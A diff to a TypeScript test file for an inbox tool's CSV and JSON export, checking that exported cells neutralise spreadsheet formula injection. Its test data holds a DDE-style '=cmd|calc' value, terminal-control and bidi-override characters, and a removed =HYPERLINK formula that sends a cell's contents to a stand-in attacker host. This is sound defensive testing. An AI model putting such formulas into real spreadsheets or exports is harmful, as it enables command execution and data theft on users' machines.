@@ -4,17 +4,22 @@ import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { makeInbox, messageOf } from '../../../tests/support/inbox.ts'
 
-const hostile = { name: '=cmd|calc', message: '-2+3, "quoted"; and\nanother line\t\x1b[2J' }
+const hostile = { name: '=cmd|calc', message: '-2+3, "quoted"; and\nanother line\t\x1b[2J\u202e' }
 
-test('writes CSV that a spreadsheet reads and does not execute', async () => {
+test('writes CSV that a spreadsheet reads, and JSON to the letter', async () => {
   await using inbox = await makeInbox()
   const head = '\ufeffid,receivedAt,state,name,email,message,language,attempts,possibleCopies,dueAt,reason,deliveredAt'
   expect(await inbox.ask('export')).toBe(`${head}\r\n`)
+  expect(await inbox.ask('export', '--json')).toBe('[]\n')
   const id = await inbox.keep(hostile)
   await inbox.keep({ website: 'https://spam.example' })
-  const row = `${id},2026-03-01T11:59:00.000Z,waiting,'=cmd|calc,marie@example.org,"'-2+3, ""quoted""; and\nanother line\\t\\u001b[2J",fr,0,0,2026-03-01T11:59:00.000Z,,`
+  const cell = `"'-2+3, ""quoted""; and\nanother line\\t\\u001b[2J\\u202e"`
+  const row = `${id},2026-03-01T11:59:00.000Z,waiting,'=cmd|calc,marie@example.org,${cell},fr,0,0,2026-03-01T11:59:00.000Z,,`
   expect(await inbox.ask('export')).toBe(`${head}\r\n${row}\r\n`)
-  expect(await inbox.ask('export', '--separator', 'semicolon')).toContain(`;"'-2+3, ""quoted""; and\nanother line`)
+  expect(await inbox.ask('export', '--separator', 'semicolon')).toContain(`;${cell};fr;`)
+  const json = await inbox.ask('export', '--format', 'json')
+  expect(json).toContain('\\u202e')
+  expect(JSON.parse(json)).toMatchObject([hostile])
 })
 
 const piece = fc.constantFrom(
@@ -25,8 +30,7 @@ const nasty = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => p
 
 test('contains no formula, whichever separator and quotes a spreadsheet uses', async () => {
   await using inbox = await makeInbox()
-  const known = ['x;=1+2;', 'Hola\n=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");\nadios', '550 no'] as const
-  for (const [name, message, reason] of [known, ...fc.sample(fc.tuple(nasty, nasty, nasty), 50)]) {
+  for (const [name, message, reason] of fc.sample(fc.tuple(nasty, nasty, nasty), 50)) {
     await inbox.keep({ name, email: `${name}@example.org`, message })
     await inbox.settle({ kind: 'refused', reason })
   }
@@ -38,26 +42,14 @@ test('contains no formula, whichever separator and quotes a spreadsheet uses', a
   }
 })
 
-test('writes JSON to the letter', async () => {
-  await using inbox = await makeInbox()
-  expect(await inbox.ask('export', '--format', 'json')).toBe('[]\n')
-  const message = `${hostile.message}\u202e`
-  await inbox.keep({ ...hostile, message })
-  const text = await inbox.ask('export', '--format', 'json')
-  expect(text).toContain('\\u202e')
-  expect(JSON.parse(text)).toMatchObject([{ name: hostile.name, message }])
-  expect(await inbox.ask('export', '--json')).toBe(text)
-})
-
 test('leaves out the trapped unless they are asked for, and overwrites nothing', async () => {
   await using inbox = await makeInbox()
   await inbox.keepOneOfEach()
   const namesIn = (text: string) => JSON.parse(text).map(({ name }: { name: string }) => name)
   const file = join(inbox.folder, 'messages.json')
   expect(await inbox.ask('export', '--format', 'json', '--output', file)).toBe(`4 messages written to ${file}\n`)
-  expect(namesIn(readFileSync(file, 'utf8'))).toEqual(['waiting', 'unknown', 'refused', 'delivered'])
   expect(statSync(file).mode & 0o777).toBe(0o600)
   expect(messageOf(await inbox.run(['export', '--state', 'trapped', '--output', file]))).toMatch(/^EEXIST/)
-  expect(namesIn(readFileSync(file, 'utf8'))).toHaveLength(4)
+  expect(namesIn(readFileSync(file, 'utf8'))).toEqual(['waiting', 'unknown', 'refused', 'delivered'])
   expect(namesIn(await inbox.ask('export', '--state', 'trapped', '--json'))).toEqual(['trapped'])
 })
